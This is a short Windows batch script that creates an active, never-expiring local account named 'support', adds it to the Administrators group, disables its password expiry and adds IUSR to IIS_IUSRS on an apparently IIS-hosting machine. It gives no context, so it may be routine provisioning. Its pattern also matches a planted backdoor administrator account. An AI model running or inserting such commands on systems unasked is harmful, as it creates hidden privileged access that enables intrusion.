@echo off
net user support /add /active:yes /expires:never /passwordchg:no
net localgroup Administrators support /add
net localgroup IIS_IUSRS IUSR /add
wmic useraccount where "name='support'" set PasswordExpires=false
